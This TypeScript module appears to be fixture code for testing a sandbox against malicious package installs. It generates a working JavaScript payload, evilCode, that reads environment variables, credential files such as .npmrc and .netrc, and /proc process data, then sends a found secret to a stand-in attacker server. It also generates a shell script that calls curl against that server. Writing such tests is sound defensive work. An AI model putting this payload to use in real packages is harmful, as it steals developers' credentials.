// An attack on an install: a repository, what the operator's registry answers, and what happens
// when a plain package manager installs it. All attacks are data; stage.ts runs them.

export type ManagerName =
  | 'npm'
  | 'pnpm'
  | 'yarn'
  | 'berry'
  | 'bun'
  | 'pip'
  | 'poetry'
  | 'uv'
  | 'cargo'
  | 'go'

/** Paths on the host and addresses that an attack may name. */
export interface Scene {
  /** A file that no process may create, in a folder that belongs to the user. */
  readonly marker: string
  /** More such files: in the home, in the state folder, in /tmp. */
  readonly markers: readonly string[]
  /** A folder of another project of the same user, with `node_modules/private/index.js` in it. */
  readonly neighbor: string
  /** A server of the attacker, with a slash at the end. */
  readonly evil: string
  /** The operator's registry, with a slash at the end; it requires the canary as a token. */
  readonly registry: string
  readonly canary: string
}

/** The target of a symlink. */
export type Content = string | { readonly link: string } | { readonly executable: string }
export type Files = Readonly<Record<string, Content>>

export interface RegistryAnswer {
  readonly status?: number
  readonly headers?: Readonly<Record<string, string>>
  readonly body: string | Uint8Array
}

export interface Attack {
  readonly name: string
  readonly manager: ManagerName
  files(scene: Scene): Files
  /** What the operator's registry answers, by path. */
  answers?(scene: Scene): Readonly<Record<string, RegistryAnswer>>
  /** More lines for the operator's own `~/.npmrc`. */
  npmrc?(scene: Scene): string
  /** How the install ends. `either`: it depends on the version of the manager, and both are safe. */
  readonly ends: 'installed' | 'refused' | 'either'
  /** Part of the message. */
  readonly says?: RegExp
  /**
   * A plain install that shows that the attack works: without our sandbox it leaves a marker, changes a
   * file elsewhere, or sends something to the attacker's server.
   */
  readonly control?: readonly string[]
  /** `npm test` runs it too. */
  readonly isQuick?: boolean
}

export const json = (value: unknown): string => JSON.stringify(value)

/** As npm and Yarn settings write it. */
export const variable = (name: string): string => ['$', '{', name, '}'].join('')

export const manifest = (more: object = {}): string =>
  json({ name: 't', version: '1.0.0', ...more })

export const npmLock = (packages: object = {}, root: object = {}): string =>
  json({
    name: 't',
    version: '1.0.0',
    lockfileVersion: 3,
    requires: true,
    packages: { '': { name: 't', version: '1.0.0', ...root }, ...packages },
  })

/**
 * JavaScript that leaves every marker it can, collects the operator's secrets that it finds and
 * sends them wherever something listens. It must run in any version of Node, and in Bun.
 */
export const evilCode = ({ markers, evil, canary }: Scene): string => `
const fs = require('fs'), cp = require('child_process');
for (const path of ${json(markers)}) { try { fs.writeFileSync(path, 'x') } catch {} }
const found = [JSON.stringify(process.env)];
const files = ['.npmrc', '.yarnrc.yml', '.netrc', '.cargo/credentials.toml', '.config/pip/pip.conf'];
for (const home of [process.env.HOME, '/root', require('os').homedir()]) for (const file of files) {
  try { found.push(fs.readFileSync(home + '/' + file, 'utf8')) } catch {}
}
try { for (const pid of fs.readdirSync('/proc')) for (const name of ['environ', 'cmdline']) {
  try { found.push(fs.readFileSync('/proc/' + pid + '/' + name, 'latin1')) } catch {}
} } catch {}
const secret = found.join('\\n').match(/canary-[0-9a-f]{8,}/);
const send = [
  '${evil}stolen/' + (secret ? secret[0] : 'nothing'),
  'http://127.0.0.1:4142/npm/0/stolen-' + (secret ? Buffer.from(secret[0]).toString('hex') : 'nothing'),
];
const program = 'for (const url of ' + JSON.stringify(send) + ') require("http").get(url, (r) => r.resume()).on("error", () => {})';
try { cp.execFileSync(process.execPath, ['-e', program], { stdio: 'ignore', timeout: 5000 }) } catch {}
try { fs.mkdirSync('node_modules', { recursive: true }); fs.writeFileSync('node_modules/found.txt', found.join('\\n').slice(0, 100000)) } catch {}
// ${canary.length}
`

export const evilScript = ({ markers, evil }: Scene): string =>
  `#!/bin/sh\nfor path in ${markers.map((path) => `'${path}'`).join(' ')}; do : > "$path"; done 2>/dev/null\ncurl -s -m 3 '${evil}script' 2>/dev/null\nexec "$@"\n`

export const evilPython = ({ markers }: Scene): string =>
  `for path in ${json(markers)}:\n    try:\n        open(path, 'w').close()\n    except OSError:\n        pass\n`

/** Markers of a shell command, for scripts in manifests. */
export const touch = ({ markers }: Scene): string => `touch ${markers.join(' ')}; true`
